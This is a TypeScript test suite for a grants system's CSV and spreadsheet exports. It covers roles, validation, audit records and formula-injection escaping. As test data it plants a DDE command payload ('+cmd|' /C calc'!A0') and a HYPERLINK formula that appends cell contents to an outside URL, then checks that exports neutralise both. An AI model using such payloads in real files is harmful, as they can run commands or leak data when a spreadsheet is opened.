import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import readSheets from "read-excel-file/node";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createExports } from "../../../functions/exports/exports.ts";
import { exportListNames, listOf } from "../../../shared/domain/export/export-lists.ts";
import { pence } from "../../../shared/domain/money.ts";
import type { Principal } from "../../../shared/domain/principal.ts";
import { contracts } from "../../../shared/http/contracts.ts";
import { dynamoAccesses } from "../../../shared/store/accesses.ts";
import { dynamoExports } from "../../../shared/store/exports.ts";
import type { Table } from "../../../shared/store/items.ts";
import { dynamoMoney, grantLedger } from "../../../shared/store/money.ts";
import { dynamoReturns } from "../../../shared/store/returns.ts";
import { dynamoSchemes } from "../../../shared/store/schemes.ts";
import { dynamoSessions } from "../../../shared/store/sessions.ts";
import { aDayInCrf, approver, assessor } from "../../examples.ts";
import { origin, send, signIn, tokensOf } from "../../http.ts";
import { everythingIn, freshTable } from "../../setup/table.ts";
import { textOf } from "../assess/desk.ts";
import { spendExample } from "../report/story.ts";
import {
  askedAt,
  type ExportsDesk,
  fetched,
  fileOf,
  finance,
  idIn,
  manager,
  openExports,
  startFiles,
  writeAll,
  writerOn,
} from "./export-desk.ts";

const nasty = `=HYPERLINK("http://example.com/"&A1,"+44")`;

let table: Table;
let storage: Awaited<ReturnType<typeof startFiles>>;
let desk: ExportsDesk;
let awardIds: readonly string[];

beforeAll(async () => {
  [table, storage] = [await freshTable(), await startFiles()];
  ({ awardIds } = await spendExample(table));
  await dynamoMoney(table).putIn({
    ...grantLedger("CRF"),
    entryId: "nasty",
    kind: "grantIncrease",
    amount: pence(1_00),
    from: "department",
    to: "grant",
    at: aDayInCrf.toISOString(),
    by: { id: "finance-9", name: "+cmd|' /C calc'!A0" },
    why: nasty,
  });
  desk = await openExports(table, storage.files);
});
afterAll(() => storage.stop());

type Rows = readonly Readonly<Record<string, string>>[];
const csvOf = (file: Buffer): Rows => parse(file, { columns: true, bom: true });
const own = (by: Principal, form: Readonly<Record<string, string>>) => fileOf(table, desk, storage.files, by, form);
const entriesStored = async () =>
  (await everythingIn(table)).filter(({ itemKind, scheme }) => itemKind === "ledgerEntry" && scheme === "CRF") as {
    entryId: string;
    amount: number;
    kind: string;
  }[];

test("finance asks for the entries of a scheme, sees how far the file is, and fetches every entry once", async () => {
  const form = await send(desk.room, "GET /exports/new", {
    as: desk.sessionOf(finance),
    query: { list: "entries", scheme: "CRF", from: "2026-11-01" },
    now: askedAt,
  });
  expect(form.status).toBe(200);
  expect(textOf(form.body)).toContain("First day of the entries");
  expect(form.body).toMatch(/value="CRF" selected/);
  expect(form.body).toMatch(/name="from-year"[^>]*value="2026"/);

  const asked = await desk.ask(finance, { list: "entries", scheme: "CRF" });
  expect(asked.status).toBe(303);
  const exportId = idIn(asked.headers.location);
  expect(textOf((await desk.look(finance, exportId)).body)).toContain("Being written");
  expect(textOf((await desk.take(finance, exportId)).body)).toContain("The file is not ready yet.");

  await writeAll(table, writerOn(table, storage.files));
  const page = await desk.look(finance, exportId);
  expect(textOf(page.body)).toContain("Download entries-CRF-on-2026-11-20.csv");
  const taken = await desk.take(finance, exportId);
  expect(taken.status).toBe(303);
  const saved = await fetch(taken.headers.location ?? "", { method: "GET" });
  expect(saved.headers.get("content-disposition")).toBe('attachment; filename="entries-CRF-on-2026-11-20.csv"');
  const rows = csvOf(await fetched(taken.headers.location ?? ""));
  const stored = await entriesStored();
  expect(rows.map(({ Entry }) => Entry).toSorted()).toEqual(stored.map(({ entryId }) => entryId).toSorted());
  const sum = rows.reduce((total, { Amount }) => total + Math.round(Number(Amount) * 100), 0);
  expect(sum).toBe(stored.reduce((total, { amount }) => total + amount, 0));
  expect(rows.find(({ Entry }) => Entry === "nasty")).toMatchObject({ "What for": `'${nasty}`, At: "2026-11-20 10:00:00" });
  expect(textOf((await send(desk.room, "GET /exports", { as: desk.sessionOf(finance), now: askedAt })).body)).toContain("Ready");
});

test("a program asks for the same and gets a link of a minute; the same key again is the same export", async () => {
  const json = { list: "entries", format: "csv", scheme: "CRF", category: "HOUSING_PAYMENT" };
  const first = await desk.askApi(finance, json, "the-same-key");
  expect(first.status).toBe(202);
  const asked = contracts["POST /api/exports"].reply.parse(first.json()) as { exportId: string };
  expect((await desk.askApi(finance, json, "the-same-key")).json()).toEqual(first.json());
  const other = await desk.askApi(finance, { ...json, category: "CRISIS_PAYMENT" }, "the-same-key");
  expect([other.status, other.json<{ type: string }>().type]).toEqual([409, "urn:hardship-support:problem:idempotency-key-reused"]);

  expect((await desk.takeApi(finance, asked.exportId)).status).toBe(409);
  await writeAll(table, writerOn(table, storage.files));
  const one = await send(desk.room, "GET /api/exports/{exportId}", {
    as: desk.sessionOf(finance),
    path: { exportId: asked.exportId },
    now: askedAt,
  });
  expect(contracts["GET /api/exports/{exportId}"].reply.parse(one.json())).toMatchObject({ state: "ready", rows: 2 });
  const list = await send(desk.room, "GET /api/exports", { as: desk.sessionOf(finance), now: askedAt });
  expect(contracts["GET /api/exports"].reply.parse(list.json()).items.length).toBeGreaterThan(0);

  const link = contracts["GET /api/exports/{exportId}/file"].reply.parse((await desk.takeApi(finance, asked.exportId)).json()) as {
    href: string;
    worksUntil: string;
  };
  expect(new URL(link.href).searchParams.get("X-Amz-Expires")).toBe("60");
  expect(link.worksUntil).toBe("2026-11-20T12:01:00.000Z");
  expect(csvOf(await fetched(link.href)).map(({ Category }) => Category)).toEqual(["Housing payments", "Housing payments"]);
});

test("each fault of a request is named at its place, and what was chosen stays", async () => {
  const page = await desk.ask(finance, {
    list: "entries",
    scheme: "",
    "from-day": "31",
    "from-month": "2",
    "from-year": "2026",
    format: "",
  });
  expect(page.isShownAgain).toBe(true);
  for (const fault of ["The first day must be a real date", "Select the kind of file"]) expect(textOf(page.body)).toContain(fault);
  expect(page.body).toMatch(/name="from-day"[^>]*value="31"/);
  const missing = await desk.ask(finance, { list: "entries" });
  expect(textOf(missing.body)).toContain("Select a scheme");

  const days = { from: "2026-06-30", to: "2026-04-01" };
  const api = await desk.askApi(finance, { list: "openSpending", format: "csv", scheme: "NONE", category: "FOOD", ...days });
  expect(api.status).toBe(422);
  expect(
    api
      .json<{ errors: { pointer: string }[] }>()
      .errors.map(({ pointer }) => pointer)
      .toSorted(),
  ).toEqual(["/category", "/scheme", "/to"]);
  const needed = await desk.askApi(finance, { list: "openSpending", format: "csv", scheme: "CRF" });
  expect(needed.json<{ errors: { pointer: string }[] }>().errors.map(({ pointer }) => pointer)).toEqual(["/from", "/to"]);
});

test("somebody gets the lists and the columns that their roles see, and nothing of another person's exports", async () => {
  const refused = await desk.askApi(assessor, { list: "entries", format: "csv", scheme: "CRF" });
  expect([refused.status, refused.json<{ detail: string }>().detail]).toEqual([403, "Your roles do not see this list."]);
  expect(textOf((await desk.ask(assessor, { list: "entries", scheme: "CRF" })).body)).toContain(
    "Your roles do not see this list. Choose one of those below.",
  );
  const offered = await send(desk.room, "GET /exports", { as: desk.sessionOf(assessor), now: askedAt });
  expect(offered.body).toContain("list=cases");
  expect(offered.body).not.toContain("list=budgets");

  const [forManager, forFinance] = [
    await own(manager, { list: "entries", scheme: "CRF" }),
    await own(finance, { list: "entries", scheme: "CRF" }),
  ];
  expect(Object.keys(csvOf(forFinance)[0] ?? {})).toContain("Household");
  expect(Object.keys(csvOf(forManager)[0] ?? {})).not.toContain("Household");
  expect(Object.keys(csvOf(forManager)[0] ?? {})).not.toContain("Case");

  const asked = await desk.ask(finance, { list: "entries", scheme: "CRF" });
  const exportId = idIn(asked.headers.location);
  await writeAll(table, writerOn(table, storage.files));
  for (const of of [desk.look, desk.take, desk.takeApi]) expect((await of(manager, exportId)).status).toBe(404);
});

test("a file is not given to somebody whose roles have come to see less, nor after its days", async () => {
  const asked = await desk.ask(finance, { list: "entries", scheme: "CRF" });
  const exportId = idIn(asked.headers.location);
  await writeAll(table, writerOn(table, storage.files));
  const now: Principal = { ...finance, roles: ["schemeManager"] };
  const room = createExports({
    origin,
    sessions: dynamoSessions(table),
    tokens: tokensOf(now),
    exports: dynamoExports(table),
    files: storage.files,
    schemes: dynamoSchemes(table),
    returns: dynamoReturns(table),
  });
  const as = await signIn(table, now, askedAt);
  const page = await send(room, "GET /exports/{exportId}/file", { as, path: { exportId }, now: askedAt });
  expect([page.status, textOf(page.body).includes("Your roles no longer show you all that is in this file.")]).toEqual([403, true]);
  const api = await send(room, "GET /api/exports/{exportId}/file", { as, path: { exportId }, now: askedAt });
  expect(api.status).toBe(403);

  const later = new Date("2026-11-27T12:00:00Z");
  const gone = await desk.takeApi(finance, exportId, later);
  expect([gone.status, gone.json<{ detail: string }>().detail]).toEqual([409, "The file has been deleted. Ask for the list again."]);
});

test("whoever takes a file is recorded with it, by page and by API", async () => {
  const asked = await desk.ask(finance, { list: "budgets", scheme: "CRF" });
  const exportId = idIn(asked.headers.location);
  await writeAll(table, writerOn(table, storage.files));
  await desk.take(finance, exportId);
  await desk.takeApi(finance, exportId);
  const found = await dynamoAccesses(table).about(exportId, { limit: 10 });
  if (!("items" in found)) throw new Error("The list can be read.");
  const routes = found.items.filter(({ did }) => did === "tookFile").map(({ route }) => route);
  expect(routes.toSorted()).toEqual(["GET /api/exports/{exportId}/file", "GET /exports/{exportId}/file"]);
});

test("every list can be written in both kinds, with the columns that it says, and a spreadsheet runs no cell", async () => {
  for (const list of exportListNames) {
    const { filters, columns, who } = listOf(list);
    const form = {
      list,
      ...("scheme" in filters && { scheme: "CRF" }),
      ...(filters.from === "needed" && {
        "from-day": "1",
        "from-month": "4",
        "from-year": "2026",
        "to-day": "30",
        "to-month": "11",
        "to-year": "2026",
      }),
    };
    const by = who.includes("finance") ? finance : approver;
    const csv = parse(await own(by, form), { bom: true }) as string[][];
    const [sheet] = await readSheets(await own(by, { ...form, format: "xlsx" }));
    expect(csv[0]).toEqual(columns.map(({ label }) => label));
    expect(sheet?.data[0]).toEqual(csv[0]);
    expect(sheet?.data).toHaveLength(csv.length);
    // Amounts may be below zero. Everything else that begins like a formula has a quote before it.
    for (const row of csv)
      row.forEach((cell, index) => {
        if (columns[index]?.kind === "text") expect(cell).not.toMatch(/^[=+\-@\p{Cc}]/u);
      });
  }
});

const awardsIn = (rows: Rows) => rows.map(({ Award }) => Award ?? "").toSorted();

test("awards are listed once each with their whole sum, and lines each with where it stands", async () => {
  const awards = csvOf(await own(finance, { list: "awards", scheme: "CRF" }));
  expect(awardsIn(awards)).toEqual(awardIds.toSorted());
  expect(awards.map(({ Total }) => Total).toSorted()).toEqual(["12.34", "30.01", "350.50"]);
  const lines = csvOf(await own(finance, { list: "lines", scheme: "CRF", category: "HOUSING_PAYMENT" }));
  expect(lines).toMatchObject([{ Amount: "250.50", Category: "Housing payments", Delivery: "" }]);
  expect(csvOf(await own(approver, { list: "cases", status: "awarded" }))).toHaveLength(3);
  expect(csvOf(await own(approver, { list: "cases", status: "refused" }))).toHaveLength(0);
});

test("LibreOffice opens a workbook as it was written, and takes no text for a formula", async () => {
  const soffice = ["/usr/bin/soffice", "/usr/local/bin/soffice"].find((path) => existsSync(path));
  const workbook = await own(finance, { list: "entries", scheme: "CRF", format: "xlsx" });
  const rows = (await readSheets(workbook))[0]?.data ?? [];
  expect(rows.some((row) => row.includes(nasty))).toBe(true);
  expect(rows.find((row) => row.includes("nasty"))?.[6]).toBe(1);
  if (!soffice) return;
  const folder = await mkdtemp(join(tmpdir(), "office-"));
  await writeFile(join(folder, "entries.xlsx"), workbook);
  execFileSync(soffice, [
    `-env:UserInstallation=file://${folder}/profile`,
    "--headless",
    "--convert-to",
    "csv:Text - txt - csv (StarCalc):44,34,76",
    "--outdir",
    folder,
    join(folder, "entries.xlsx"),
  ]);
  const opened = parse(await readFile(join(folder, "entries.csv")), { columns: true, bom: true }) as Rows;
  await rm(folder, { recursive: true });
  expect(opened).toHaveLength(rows.length - 1);
  expect(opened.find(({ Entry }) => Entry === "nasty")).toMatchObject({ "What for": nasty, By: "+cmd|' /C calc'!A0" });
});
